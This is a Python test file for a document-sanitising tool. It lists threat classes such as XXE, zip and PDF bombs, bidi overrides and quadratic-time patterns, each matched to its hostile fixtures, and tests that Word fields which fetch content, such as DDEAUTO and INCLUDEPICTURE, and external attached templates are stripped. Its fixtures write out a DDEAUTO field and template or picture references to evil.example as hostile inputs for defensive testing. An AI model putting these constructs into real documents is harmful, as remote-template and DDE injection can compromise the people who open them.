"""The table of threats: each row of the decision on hostile input has what makes it and what proves it."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from briefing.draft.unlinking import unlinked
from briefing.draft.warnings import fetches
from briefing.errors import RulesError
from briefing.formats.ooxml import open_package
from briefing.readers import settled
from tests import hostile

TESTS = Path(__file__).parents[1]
THREATS = {
    "entities: XXE, billion laughs, quadratic": ("xxe.docx", "laughs.docx", "utf16.docx", "laughs.odt", "laughs.xml", "xxe.newsml", "laughs.epub"),
    "docx bomb": ("bomb.docx", "big.zip", "attachment.eml", "lying.zip"),
    "paragraphs, attributes, nested tags without end": ("paragraphs.docx", "attributes.html", "nested.html", "tags.html", "deep.docx", "deep.odt"),
    "PDF bomb": ("bomb.pdf", "loop.pdf", "content.pdf", "test_a_worker_is_stopped", "test_a_pdf_in_an_archive_goes_to_the_worker_too"),
    "mini-XML of the page": ("test_nothing_is_opened_dropped_or_run", "test_only_plain_addresses_are_links", "test_any_text_can_be_printed"),
    "a paragraph of a megabyte": ("one-line.txt", "word.txt", "test_a_paragraph_of_a_hundred_thousand_letters_goes_over_pages"),
    "controls, surrogates, direction overrides": ("controls.txt", "surrogate.txt", "bidi.txt", "tags.txt", "zalgo.txt"),
    "fields and templates in a draft that fetch": (
        "test_a_draft_that_fetches_is_unlinked_and_keeps_its_words", "test_a_template_elsewhere_is_no_longer_asked_for",
        "test_what_a_draft_runs_is_taken_out_by_the_merge",
    ),
    "names, links, pipes": ("slip.zip", "names.zip", "test_a_link_that_leads_out_is_refused_and_one_inside_is_followed", "test_a_pipe_is_not_opened"),
    "front matter, TOML, JSON bombs and long numbers": ("front.md", "alias.md", "python.md", "deep.json", "number.json", "json-ld.html", "test_a_settings_bomb_is_told"),
    "mail: parts and charsets": ("parts.eml", "nested.eml", "charset.eml", "header.eml"),
    "patterns with quadratic time": ("spaces.txt", "parens.txt", "commas.txt", "digits.txt", "links.md", "stars.md", "label.txt"),
    "network": ("test_hostile_file", "test_a_worker_can_do_no_harm", "test_a_confined_process_reads_but_does_no_harm"),
}  # fmt: skip
"""Row: names of hostile files, and of tests. Formulas in CSV are no row: no CSV is written."""


@pytest.mark.parametrize("threat", THREATS)
def test_each_threat_has_its_files_and_tests(threat: str) -> None:
    files = {row.name for row in hostile.ROWS}
    written = {
        name for path in TESTS.rglob("test_*.py") for name in re.findall(r"^def (test_\w+)", path.read_text(encoding="utf-8"), re.MULTILINE)
    }  # fmt: skip
    for name in THREATS[threat]:
        assert name in (written if name.startswith("test_") else files), name


def test_no_csv_is_written() -> None:
    sources = (TESTS.parent / "briefing").rglob("*.py")
    assert not [
        path
        for path in sources
        if re.search(r"^\s*(?:import|from) csv\b", path.read_text(encoding="utf-8"), re.MULTILINE)
    ]


@pytest.mark.parametrize("text", ["a = " + "[" * 5000, "a = " + "9" * 5000, "a." * 5000 + "a = 1"])
def test_a_settings_bomb_is_told(text: str) -> None:
    with pytest.raises(RulesError, match=r"not valid TOML|outside a table|must be one value"):
        settled.parse(text)


OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SETTINGS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="s" '
    f'Type="{OFFICE}/settings" Target="settings.xml"/></Relationships>'
)
TEMPLATE = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="t" TargetMode="External" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm"/>'
    '<Relationship Id="h" TargetMode="External" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" '
    'Target="https://news.example/"/></Relationships>'
)


TYPES = (
    "[Content_Types].xml",
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
)


def field(*pieces: str, inner: str = "", result: str = "") -> str:
    """A field of runs; ``inner`` stands within its instruction, ``result`` is a word or fields again."""
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    after = result if result.startswith("<") else f"<w:r><w:t>{result}</w:t></w:r>"
    begin, separate, end = (
        f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end")
    )
    return f"<w:p>{begin}{runs}{inner}{separate}{after}{end}</w:p>"


def shown(data: bytes) -> str:
    root = open_package(data).xml("word/document.xml")
    return "".join(root.itertext(f"{{{hostile.W}}}t"))


def code(data: bytes) -> str:
    root = open_package(data).xml("word/document.xml")
    simple = [part.get(f"{{{hostile.W}}}instr") or "" for part in root.iter(f"{{{hostile.W}}}fldSimple")]
    return "".join([*root.itertext(f"{{{hostile.W}}}instrText"), *simple])


@pytest.mark.parametrize(
    ("body", "told", "words"),
    [
        (field(" DDE", "AUTO c:\\\\x ", result="42"), ["DDEAUTO"], "42"),
        (field(' INCLUDEPICTURE "https://evil.example/a.png" '), ["INCLUDEPICTURE"], ""),
        ('<w:p><w:fldSimple w:instr=" INCLUDETEXT x "><w:r><w:t>as shown</w:t></w:r></w:fldSimple></w:p>', ["INCLUDETEXT"], "as shown"),
        (field(" INCLUDEPICTURE ", inner=field(" FILENAME ", result="never shown"), result="one"), ["INCLUDEPICTURE"], "one"),
        (field(" LINK a ", result=field(" DDE b ", result="two")), ["DDE", "LINK"], "two"),
        (field(" INCLUDETEXT ", inner=field(" DDE b ", result="unseen"), result="three"), ["DDE", "INCLUDETEXT"], "three"),
        ('<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText> DDE x</w:instrText></w:r></w:p>', ["DDE"], ""),
    ],
)  # fmt: skip
def test_a_draft_that_fetches_is_unlinked_and_keeps_its_words(body: str, told: list[str], words: str) -> None:
    data, taken_out = unlinked(hostile.docx(body, "", TYPES))
    assert list(taken_out) == told
    assert (shown(data), code(data)) == (words, "")
    assert b"fldChar" not in open_package(data).parts["word/document.xml"]


def test_fields_that_fetch_nothing_stay_byte_for_byte() -> None:
    body = field(' HYPERLINK "https://news.example/import" ', result="a link") + field(" TOC \\o ")
    data = hostile.docx(body + '<w:p><w:fldSimple w:instr=" PAGE "/></w:p>', "", TYPES)
    assert unlinked(data) == (data, ())


@pytest.mark.parametrize(
    ("address", "gone"),
    [
        ("https://evil.example/t.dotm", ["t"]),
        ("\\\\server\\share\\t.dotm", ["t"]),
        ("file://server/share/t.dotm", ["t"]),
        ("file:///C:/Users/Ann/t.dotm", []),
        ("C:\\Users\\Ann\\t.dotm", []),
        ("t.dotm", []),
    ],
)
def test_a_template_elsewhere_is_no_longer_asked_for(address: str, gone: list[str]) -> None:
    relations = TEMPLATE.replace("https://evil.example/t.dotm", address)
    link = f'<w:settings xmlns:w="{hostile.W}" xmlns:r="{OFFICE}"><w:attachedTemplate r:id="t"/></w:settings>'
    came = hostile.docx(
        "<w:p/>", "", TYPES, ("word/_rels/document.xml.rels", SETTINGS),
        ("word/settings.xml", link), ("word/_rels/settings.xml.rels", relations),
    )  # fmt: skip
    data, taken_out = unlinked(came)
    assert list(taken_out) == [f"attachedTemplate {address}" for _ in gone]
    kept = open_package(data)
    assert (b"attachedTemplate" in kept.parts["word/settings.xml"]) is not bool(gone)
    ids = [relation.id for relation in kept.relationships("word/settings.xml")]
    assert [*gone, *ids] == ["t", "h"]


def test_an_object_elsewhere_stays_and_is_told() -> None:
    relations = TEMPLATE.replace("attachedTemplate", "oleObject")
    package = open_package(hostile.docx("<w:p/>", "", TYPES, ("word/_rels/settings.xml.rels", relations)))
    assert fetches(package) == ["oleObject https://evil.example/t.dotm"]
